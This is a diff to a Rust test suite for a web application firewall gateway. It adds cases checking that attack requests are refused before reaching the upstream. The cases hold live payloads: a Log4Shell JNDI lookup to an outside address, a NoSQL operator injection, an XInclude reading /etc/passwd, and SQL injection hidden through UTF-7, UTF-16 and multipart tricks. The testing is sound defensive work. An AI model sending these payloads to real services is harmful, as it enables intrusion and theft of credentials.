@@ -171,6 +171,21 @@ async fn attacks_everywhere_are_refused_before_any_upstream() {
             "log4shell",
             "header:tracestate",
         ),
+        // The WebSocket handshake goes upstream as sent: its fields are inspected.
+        (
+            "GET",
+            "/socket".into(),
+            vec![
+                ("connection", "upgrade"),
+                ("upgrade", "websocket"),
+                ("sec-websocket-version", "13"),
+                ("sec-websocket-key", "${jndi:ldap://198.51.100.7/a}"),
+            ],
+            String::new(),
+            "jndi",
+            "log4shell",
+            "header:sec-websocket-key",
+        ),
         (
             "GET",
             "/items".into(),
@@ -215,6 +230,26 @@ async fn attacks_everywhere_are_refused_before_any_upstream() {
             "ENTITY",
             "xxe",
             "body:!DOCTYPE",
+        ),
+        // A JSON-escaped operator in a value a backend parses as JSON.
+        (
+            "GET",
+            "/users?filter=%7B%22user%22%3A%7B%22%5Cu0024ne%22%3Anull%7D%7D".into(),
+            vec![],
+            String::new(),
+            "u0024ne",
+            "nosql",
+            "query:filter",
+        ),
+        // XInclude: the element is a target with its attributes.
+        (
+            "POST",
+            "/import".into(),
+            vec![("content-type", "application/xml")],
+            r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>"#.into(),
+            "xi:include",
+            "xxe",
+            "body:/r/xi:include/<tag>",
         ),
         (
             "POST",
@@ -628,6 +663,73 @@ async fn malformed_and_oversized_bodies() {
     );
     let ev = audit_of(&gw, r.header("x-request-id").unwrap());
     assert!(matches(&ev).iter().any(|m| m["rule"] == 1004), "{ev}");
+}
+
+/// Bodies an upstream could read otherwise than the WAF did are refused (rule 1005, or 1001
+/// for multipart that parsers cut differently) before any upstream sees them, and the gateway
+/// goes on serving.
+#[tokio::test]
+async fn bodies_read_another_way_are_refused() {
+    let (gw, up) = setup().await;
+    let wide: String = "' UNION SELECT password FROM users--"
+        .chars()
+        .flat_map(|c| [c, '\0'])
+        .collect();
+    let hidden = "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XyZ--\r\n\
+--XyZ\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n' UNION SELECT password FROM users--\r\n--XyZ--\r\n";
+    let cases: Vec<(Vec<(&str, &str)>, &str, u64)> = vec![
+        // Two types, the first binary: not skipped as binary.
+        (
+            vec![
+                ("content-type", "image/png"),
+                ("content-type", "application/json"),
+            ],
+            r#"{"q":"' UNION SELECT password FROM users--"}"#,
+            1005,
+        ),
+        // A form in UTF-7: `+ACc-` is a quote to the upstream.
+        (
+            vec![(
+                "content-type",
+                "application/x-www-form-urlencoded; charset=utf-7",
+            )],
+            "q=%2BACc- UNION SELECT password FROM users--",
+            1005,
+        ),
+        (
+            vec![("content-type", "text/plain; charset=utf-16")],
+            "' UNION SELECT password FROM users--",
+            1005,
+        ),
+        // UTF-16 without a type: not skipped as binary.
+        (vec![], wide.as_str(), 1005),
+        // A part after the close delimiter, which PHP reads.
+        (
+            vec![("content-type", "multipart/form-data; boundary=XyZ")],
+            hidden,
+            1001,
+        ),
+    ];
+    for (headers, body, rule) in cases {
+        let before = up.hits();
+        let r = call(&gw, "POST", "/orders", &headers, body).await;
+        let ev = assert_blocked(&gw, &r, "UNION");
+        assert!(
+            matches(&ev).iter().any(|m| m["rule"] == rule),
+            "{headers:?}: expected rule {rule}: {ev}"
+        );
+        assert_eq!(up.hits(), before, "{headers:?} reached the upstream");
+    }
+    // Still healthy: the same kinds of bodies, read one way, pass.
+    let r = call(
+        &gw,
+        "POST",
+        "/orders",
+        &[("content-type", "text/plain; charset=utf-8")],
+        "blue shoes",
+    )
+    .await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
 }
 
 /// A chunked body (no Content-Length) is buffered and inspected like any other.
